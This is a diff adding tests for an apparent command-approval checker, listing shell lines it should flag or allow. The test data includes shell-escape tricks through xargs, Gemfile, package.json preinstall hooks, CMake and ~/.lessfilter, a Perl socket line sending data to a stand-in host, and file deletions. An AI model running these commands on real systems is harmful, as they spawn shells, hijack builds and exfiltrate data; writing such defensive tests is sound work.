@@ -198,3 +198,28 @@ it('answers whatever text it is given', async () => {
     { numRuns: 120 },
   );
 });
+
+describe('what another program is made to do', () => {
+  it.each([
+    'echo x | xargs -o -a /dev/null /bin/sh',
+    'xargs --arg-file=names.txt rm',
+    `echo 'system("/bin/sh")' > Gemfile\nbundle install`,
+    `echo '{"scripts": {"preinstall": "/bin/sh"}}' > package.json; yarn --cwd .`,
+    "echo 'execute_process(COMMAND /bin/sh)' > CMakeLists.txt && cmake .",
+    'cp tool ~/.lessfilter; less notes.txt',
+    `perl -MIO::Socket::INET -e '$s = new IO::Socket::INET(PeerAddr => "a.example"); print $s $all'`,
+    'cd data && rm old.log backup.sql',
+  ])('asks about %s', async (line) => {
+    expect(await decide(line)).toBe('ask');
+  });
+
+  it.each([
+    "printf '#!/bin/sh\\necho hi\\n' > a.sh && chmod +x a.sh && ./a.sh",
+    "printf 'SHELL := /bin/bash\\nall:\\n\\techo a\\n' > Makefile && make",
+    `cat > Dockerfile <<'E'\nFROM a\nCMD ["/bin/sh"]\nE\nnpm test`,
+    `echo 'system("/bin/sh")' > Gemfile; cat Gemfile`,
+    'rm schema.sql',
+  ])('allows %s', async (line) => {
+    expect(await decide(line)).toBe('allow');
+  });
+});
